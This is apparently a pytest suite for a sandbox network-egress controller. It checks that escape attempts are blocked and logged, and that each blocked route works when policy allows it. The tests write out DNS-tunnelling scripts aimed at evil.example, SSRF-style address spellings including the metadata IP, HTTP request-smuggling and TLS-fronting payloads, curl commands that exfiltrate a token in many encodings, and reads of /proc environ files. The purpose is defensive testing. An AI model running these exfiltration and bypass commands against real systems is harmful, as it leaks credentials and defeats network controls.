"""Ways out of a sandbox that policy did not give, and ways to a secret: each is refused and recorded, and
each has a twin that shows the same way working where policy gives it."""
import base64
import json
import time
import urllib.parse

import pytest

TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"


def rule(**keys):
    lines = [f"{key} = {json.dumps(value)}" for key, value in {"action": "allow", **keys}.items()]
    return "[[egress.rule]]\n" + "\n".join(lines) + "\n"


def curl(*options):
    return ("curl", "-sS", "-m", "8", *options)


def denied_events(done):
    return [e for e in done.report["network"]["events"] if e["verdict"] == "denied"]


# --- names


def test_names_of_denied_hosts_never_leave(online):
    paddock = online(["a.example", "evil.example"])
    script = """
for i in 1 2 3; do getent hosts secret-$i.evil.example; done
getent hosts a.example.evil.example
python3 - <<'END'
import os, socket, struct
def ask(name, kind, server):
    q = os.urandom(2) + struct.pack("!HHHHH", 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        try:
            s.sendto(q, (server, 53))
            return s.recv(4096)[3] & 15
        except OSError as e:
            return type(e).__name__
server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
for kind in (1, 2, 5, 10, 15, 16, 28, 33, 65, 255):
    assert ask("payload.evil.example", kind, server) != 0, kind
for direct in ("11.0.0.1", "8.8.8.8"):
    assert isinstance(ask("payload.evil.example", 1, direct), str), direct
print("tried")
END
"""
    done = paddock.sh(script, "--allow", "a.example").ok()
    assert done.out.endswith("tried\n")
    assert paddock.internet.queries() == []
    assert done.denied("name", "evil.example")
    # The twin: the same name, allowed, arrives at the same authority.
    paddock.run(*curl("http://evil.example/"), options=("--allow", "evil.example")).ok()
    assert "evil.example" in paddock.internet.queries()


@pytest.mark.parametrize("host", ["evila.example", "a.example.evil.example", "b.a.example", "xa.example"])
def test_a_rule_for_a_name_is_for_no_other(online, host):
    paddock = online(["a.example", host])
    refused = paddock.run(*curl(f"http://{host}/"), options=("--allow", "a.example"))
    assert refused.code != 0 and paddock.internet.queries() == [] and denied_events(refused)
    paddock.run(*curl(f"http://{host}/"), options=("--allow", host)).ok()


def test_an_empty_list_allows_nothing(online):
    paddock = online(["a.example"])
    for text in ("[egress]\n", "[egress]\nallow = []\n", "[egress]\npresets = []\n", "[egress]\nrule = []\n",
                 rule(hosts=[]), rule(hosts=["a.example"], methods=[])):
        paddock.policy(text)
        done = paddock.sh("curl -sS -m 5 -f http://a.example/ || echo refused").ok()
        assert done.out == "refused\n", text
    assert paddock.internet.requests() == []
    paddock.policy(rule(hosts=["a.example"]))
    paddock.sh("curl -sS -m 5 -f http://a.example/").ok()


@pytest.mark.parametrize("pattern", ["*", "**", "*.com", "a.*", "*a.example", "http://a.example", "a.example/x"])
def test_patterns_that_say_more_than_they_seem_to_are_errors(online, pattern):
    paddock = online(["a.example"])
    paddock.policy(rule(hosts=[pattern]))
    paddock.sh("true").refused("egress")
    paddock.policy(rule(hosts=["*.a.example"]))
    paddock.sh("true").ok()


# --- addresses


@pytest.mark.parametrize(
    "address",
    ["11.0.0.1", "0xb000001", "184549377", "013.0.0.1", "[::ffff:11.0.0.1]", "[64:ff9b::b00:1]", "127.0.0.53",
     "169.254.169.254", "10.9.9.9"],
)
def test_no_spelling_of_an_address_gets_round_names(online, address):
    paddock = online(["a.example"])
    refused = paddock.run(*curl(f"http://{address}/"), options=("--allow", "a.example"))
    assert refused.code != 0 and refused.out == ""
    assert paddock.internet.requests() == []
    paddock.run(*curl("http://11.0.0.1/"), options=("--allow", "11.0.0.1:80")).ok()


def test_a_name_that_leads_inside_is_not_dialled(online):
    paddock = online({"in.example": "10.9.9.9", "out.example": "11.0.0.1", "loop.example": "127.0.0.1",
                      "meta.example": "169.254.169.254"})
    options = [o for host in ("in", "out", "loop", "meta") for o in ("--allow", f"{host}.example")]
    for host, kind in (("in", "private"), ("loop", "loopback"), ("meta", "metadata")):
        done = paddock.run(*curl("-f", f"http://{host}.example/"), options=options)
        assert done.code != 0
        assert any(kind in e["reason"] for e in denied_events(done)), done.report["network"]
    assert paddock.internet.requests() == []
    paddock.run(*curl("-f", "http://out.example/"), options=options).ok()


def test_an_answer_that_changes_is_looked_at_again(online):
    paddock = online({"a.example": [["11.0.0.1"], ["10.9.9.9"]]})
    script = "curl -sS -m 8 http://a.example/1 -o one; sleep 6; curl -f -sS -m 8 http://a.example/2 || echo refused"
    done = paddock.sh(script, "--allow", "a.example").ok()
    assert done.out == "refused\n"
    assert [r["path"] for r in paddock.internet.requests()] == ["/1"]
    assert any("private" in e["reason"] for e in denied_events(done))


@pytest.mark.parametrize("way", ["udp", "icmp", "quic", "multicast", "ipv6"])
def test_nothing_but_tcp_leaves(online, way):
    paddock = online(["a.example"])
    program = f"""
import socket
try:
    if {way!r} == "icmp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("11.0.0.1", 0))
    elif {way!r} == "ipv6":
        socket.create_connection(("2606:4700::1111", 443), 5)
    else:
        where = {{"udp": ("11.0.0.1", 53), "quic": (socket.gethostbyname("a.example"), 443),
                  "multicast": ("224.0.0.251", 5353)}}[{way!r}]
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 100, where)
    print("sent")
except OSError as e:
    print("refused")
"""
    done = paddock.run("python3", "-c", program, options=("--allow", "a.example")).ok()
    assert done.out == "refused\n"
    assert paddock.internet.entries("dns") == []
    paddock.run(*curl("http://a.example/"), options=("--allow", "a.example")).ok()


# --- HTTP and TLS


def raw_http(*requests):
    """A program that sends these bytes over one connection to a.example:80 and prints the status lines."""
    return (
        "python3", "-c",
        "import socket, sys\n"
        "s = socket.create_connection(('a.example', 80), 8)\n"
        "s.settimeout(8)\n"
        f"for request in {list(requests)!r}:\n"
        "    try:\n"
        "        s.sendall(request)\n"
        "        answer = s.recv(65536)\n"
        "    except OSError:\n"
        "        answer = b''\n"
        "    print(answer.split(b'\\r\\n')[0].decode() or 'nothing')\n",
    )


GOOD = b"GET /good HTTP/1.1\r\nHost: a.example\r\n\r\n"


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"GET / HTTP/1.1\r\nHost: b.example\r\n\r\n",
        b"GET http://b.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET http://b.example/ HTTP/1.1\r\nHost: b.example\r\n\r\n",
        b"CONNECT b.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a.example@b.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a.example\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"GET / HTTP/1.1\nHost: b.example\n\n",
    ],
)
def test_plain_http_is_for_the_host_request_by_request(online, request_bytes):
    paddock = online(["a.example", "b.example"])
    done = paddock.run(*raw_http(GOOD, request_bytes), options=("--allow", "a.example")).ok()
    first, second = done.out.splitlines()
    assert first == "HTTP/1.1 200 OK" and "200" not in second and "101" not in second, done
    assert [r["path"] for r in paddock.internet.requests()] == ["/good"]
    assert denied_events(done)


def test_tls_must_name_the_host(online):
    paddock = online(["a.example", "b.example"])
    fronted = curl("-k", "--connect-to", "b.example:443:a.example:443", "https://b.example/")
    done = paddock.run(*fronted, options=("--allow", "a.example"))
    assert done.code != 0 and any("TLS asks for b.example" in e["reason"] for e in denied_events(done))
    unnamed = "import socket, ssl; c = ssl._create_unverified_context(); c.check_hostname = False\n" \
        "c.wrap_socket(socket.create_connection(('a.example', 443), 8)); print('open')"
    done = paddock.run("python3", "-c", unnamed, options=("--allow", "a.example"))
    assert done.code != 0 and any("names no host" in e["reason"] for e in denied_events(done))
    assert paddock.internet.requests() == []
    paddock.policy(rule(hosts=["a.example"], opaque_tls=True))
    assert paddock.run("python3", "-c", unnamed).ok().out == "open\n"
    paddock.run(*curl("-k", "https://a.example/"), options=("--allow", "a.example")).ok()


# --- secrets


def with_credential(online):
    paddock = online(["a.example", "b.example"])
    paddock.policy(
        rule(hosts=["a.example", "b.example"], methods=["GET", "POST", "TRACE"])
        + '[[credential]]\nname = "t"\nfrom = "env:TOKEN"\nenv = "TOKEN"\nhosts = ["a.example"]\n'
    )
    return paddock


WAYS = {
    "header": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -H \"X-Key: $TOKEN\" https://b.example/",
    "bearer": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $TOKEN\" https://b.example/",
    "basic": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -u x:$TOKEN https://b.example/",
    "query": "curl -sS -m 8 -o /dev/null -w '%{http_code}' \"https://b.example/?k=$TOKEN\"",
    "path": "curl -sS -m 8 -o /dev/null -w '%{http_code}' \"https://b.example/$TOKEN\"",
    "body": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -d \"k=$TOKEN\" https://b.example/",
    "base64": "printf %s $TOKEN | base64 -w0 | curl -sS -m 8 -o /dev/null -w '%{http_code}' -d @- https://b.example/",
    "percent": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -d \"k=$(printf %s $TOKEN | sed 's/_/%5F/')\" "
    "https://b.example/",
    "json": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -d \"{\\\"k\\\": \\\"$(printf %s $TOKEN | "
    "sed 's/_/\\\\u005f/')\\\"}\" https://b.example/",
    "plain": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $TOKEN\" http://a.example/",
    "redirect": "curl -sS -m 8 -o /dev/null -w '%{http_code}' -L -H \"X-Key: $TOKEN\" "
    "\"https://a.example/redirect?to=https://b.example/\"",
}


@pytest.mark.parametrize("way", WAYS)
def test_a_placeholder_goes_to_its_host_alone(online, way):
    paddock = with_credential(online)
    done = paddock.sh(WAYS[way], env={"TOKEN": TOKEN})
    assert not done.out.startswith("200"), done
    seen = json.dumps(paddock.internet.requests())
    for form in (TOKEN, base64.b64encode(TOKEN.encode()).decode().strip("="), urllib.parse.quote(TOKEN)):
        assert form not in seen
    assert any("placeholder" in e["reason"] for e in denied_events(done)), done.report["network"]
    twin = paddock.sh("curl -sS -m 8 -H \"Authorization: Bearer $TOKEN\" https://a.example/", env={"TOKEN": TOKEN}).ok()
    assert paddock.internet.requests()[-1]["headers"]["Authorization"] == f"Bearer {TOKEN}"
    assert TOKEN not in twin.out


def test_a_placeholder_is_worth_nothing_in_another_sandbox(online):
    paddock = with_credential(online)
    first = paddock.sh("printf %s $TOKEN", env={"TOKEN": TOKEN}).ok().out
    second = paddock.sh("printf %s $TOKEN", env={"TOKEN": TOKEN}).ok().out
    assert first != second and TOKEN not in (first, second)
    script = f"curl -sS -m 8 -H 'Authorization: Bearer {first}' https://a.example/"
    paddock.sh(script, env={"TOKEN": TOKEN}).ok()
    # It is some text of the program's own: sent on as it is, and the secret is not put in its place.
    assert paddock.internet.requests()[-1]["headers"]["Authorization"] == f"Bearer {first}"


def test_the_secret_is_in_no_memory_file_or_log(online):
    paddock = with_credential(online)
    script = """
curl -sS -m 8 -H "Authorization: Bearer $TOKEN" https://a.example/ > answer
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'
cat answer; cat /run/paddock/ca.pem
"""
    done = paddock.sh(script, env={"TOKEN": TOKEN}).ok()
    for text in (done.out, done.err, json.dumps(done.report)):
        assert TOKEN not in text and TOKEN[4:] not in text
    assert "PRIVATE KEY" not in done.out
    assert paddock.internet.requests()[-1]["headers"]["Authorization"] == f"Bearer {TOKEN}"


def test_an_open_connection_ends_with_the_run(online):
    paddock = online(["a.example"])
    program = "import socket, os; s = socket.create_connection(('a.example', 2525)); s.recv(9); os._exit(0)"
    began = time.monotonic()
    paddock.run("python3", "-c", program, options=("--allow", "a.example:2525")).ok()
    assert time.monotonic() - began < 20
